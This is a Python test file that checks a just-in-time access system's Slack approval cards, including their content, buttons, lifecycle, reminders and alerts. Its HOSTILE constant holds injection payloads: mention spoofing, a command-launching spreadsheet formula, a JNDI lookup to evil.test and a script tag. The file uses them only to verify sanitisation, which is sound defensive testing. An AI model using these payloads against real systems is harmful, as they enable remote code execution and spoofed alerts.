"""One card per request and place. It follows the request, holds server-made facts, and no foreign text has powers."""

from __future__ import annotations

import json
import re

import pytest

from jit_access.access_requests import services
from jit_access.access_requests.reminding import remind_due
from jit_access.notifications.routes import TypedRoute, set_routes
from jit_access.slack.models import Card, Note
from tests.slack.conftest import CHANNEL, SECURITY_CHANNEL, Workspace
from tests.support.lifecycles import BASE, FRONTIER, TINY, answer, ask, scope_of
from tests.support.slack.server import markup_of

HOSTILE = (
    "<!channel> <@U0BEN> <https://evil.test|Approve> *bold* `code` https://evil.test/x @here &lt;!here&gt; "
    "=cmd|'/C calc'!A0 ${jndi:ldap://evil.test/a} <script>alert(1)</script> \x1b[31m"
)


def test_card_tells_what_is_asked(space: Workspace) -> None:
    request = ask(space.world, TINY, ticket="OPS-12", scope=scope_of(TINY, tags=("v1",)))
    space.settle()
    said = space.card().said
    for fact in (
        "Ada Okafor", " asks to pull ", "demo-registry/llm/tiny-llama", "1 h", "Evaluate the new checkpoint",
        "Sensitive", "1 of model-owners", "OPS-12", "2 GiB", "risk", "left", "v1",
    ):  # fmt: skip
        assert fact in said, fact
    assert [one["action_id"] for one in space.card().buttons] == ["review", "deny"]
    assert space.card().button("review")["url"].endswith(f"/approvals/{request.public_id}")


def test_digest_is_told_where_it_is_known(space: Workspace) -> None:
    digest = "sha256:" + "ab" * 32
    scope = [{**scope_of(TINY).to_wire()[0], "digests": [digest]}]
    from jit_access.domain.scopes import parse_scope  # noqa: PLC0415  # used by this test alone

    ask(space.world, TINY, scope=parse_scope(scope))
    space.settle()
    assert digest[:19] in space.card().said


def test_approve_is_offered_for_low_tiers_only(space: Workspace) -> None:
    ask(space.world, BASE)
    space.settle()
    assert [one["action_id"] for one in space.card().buttons] == ["review", "approve", "deny"]


@pytest.mark.parametrize("purpose", [HOSTILE, "x" * 1000])
def test_words_of_the_requester_can_neither_mention_nor_link(space: Workspace, purpose: str) -> None:
    """Case 56."""
    ask(space.world, TINY, purpose=purpose, ticket="<!here>")
    space.settle()
    body = space.card().body
    for node in markup_of(body["blocks"]):
        assert node["verbatim"] is True
        assert re.findall(r"<([!@#h][^>]*)>", node["text"].replace("<!date^", "")) == []
        assert "://" not in node["text"]
    assert "evil.test" not in body["text"]
    assert "https://evil" not in json.dumps(body["blocks"])
    assert (body["unfurl_links"], body["unfurl_media"], body["link_names"]) == (False, False, False)
    quoted = next(block for block in body["blocks"] if block["elements"][0]["type"] == "rich_text_quote")
    assert len(quoted["elements"][0]["elements"][0]["text"]) <= 320


def test_display_names_have_no_powers_either(space: Workspace) -> None:
    type(space.cast.ada).objects.filter(pk=space.cast.ada.pk).update(display_name="<!channel> *Ada* `x`")
    space.cast.ada.refresh_from_db()
    ask(space.world, TINY)
    space.settle()
    assert "<!channel>" not in space.card().body["text"]
    assert all("<!channel>" not in node["text"] for node in markup_of(space.card().body["blocks"]))


def test_card_follows_the_request_to_its_end(space: Workspace) -> None:
    request = ask(space.world, FRONTIER)
    space.settle()
    answer(request, space.cast.ben)
    space.settle()
    assert "Approved by Ben Okafor" in space.card().said
    assert "security decides next" in space.card().said
    assert space.card().buttons  # others still need them
    answer(request, space.cast.dora)
    space.settle()
    assert "Approved by Ben Okafor and Dora Okafor" in space.card().said
    assert space.card().buttons == []
    assert len(space.card().body["blocks"]) == 1
    assert Card.objects.count() == 1


def test_withdrawn_and_expired_have_no_buttons(space: Workspace, clock) -> None:
    services.withdraw_request(actor=space.cast.ada, request=ask(space.world, TINY))
    space.settle()
    assert space.card().said.startswith("Withdrawn")
    assert space.card().buttons == []


def test_expired_card_says_so(space: Workspace, clock) -> None:
    ask(space.world, TINY)
    space.settle()
    clock.advance(hours=25)
    services.expire_due_requests()
    space.settle()
    assert space.card().said.startswith("Nobody answered in time")
    assert space.card().buttons == []


def test_without_a_route_those_who_may_answer_get_it_directly(space: Workspace) -> None:
    nobody = TypedRoute((), ())
    set_routes(actor=space.cast.ben, target=space.world.target, first=nobody, escalation=nobody)
    ask(space.world, FRONTIER)
    space.settle()
    assert {one.channel for one in space.slack.messages} == {"D0BEN", "D0DORA"}


def test_request_that_needs_nobody_has_no_card(space: Workspace) -> None:
    space.settle()
    from django.conf import settings  # noqa: PLC0415  # used by this test alone

    from jit_access.domain.actors import GATEWAY  # noqa: PLC0415
    from jit_access.policies.services import load_policy  # noqa: PLC0415

    load_policy(actor=GATEWAY, directory=settings.POLICY_DIR)
    ask(space.world, BASE)
    space.settle()
    assert not Card.objects.exists()


def test_unanswered_request_is_remembered_under_its_card_and_escalated(space: Workspace, clock) -> None:
    set_routes(
        actor=space.cast.ben,
        target=space.world.target,
        first=TypedRoute((CHANNEL,), ()),
        escalation=TypedRoute(("C0ESCALATE",), ()),
    )
    ask(space.world, TINY)
    space.settle()
    for minutes in (15, 45):
        clock.advance(minutes=minutes)
        remind_due()
        space.settle()
    threaded = [one for one in space.slack.in_channel(CHANNEL) if "thread_ts" in one.body]
    assert [one.body["thread_ts"] for one in threaded] == [space.card().ts] * 2
    assert space.card("C0ESCALATE").buttons


def test_off_means_off(space: Workspace, settings) -> None:
    settings.SLACK_TEAM_ID = ""
    ask(space.world, TINY)
    space.settle()
    assert not Card.objects.exists()
    assert not Note.objects.exists()
    assert space.sender.client.post("/slack/interactions").status_code == 404


def test_alerts_go_to_the_security_channel(space: Workspace) -> None:
    from jit_access.notifications.alerts import alert  # noqa: PLC0415  # used by this test alone

    for _ in range(2):
        alert("cut", subject="Cut: <!channel>", text="At 41 GiB.", path="/activity", dedupe_key="cut:1")
        space.settle()
    (message,) = space.slack.in_channel(SECURITY_CHANNEL)
    assert "<!channel>" not in message.body["text"]
    assert message.button("see")["url"].endswith("/activity")
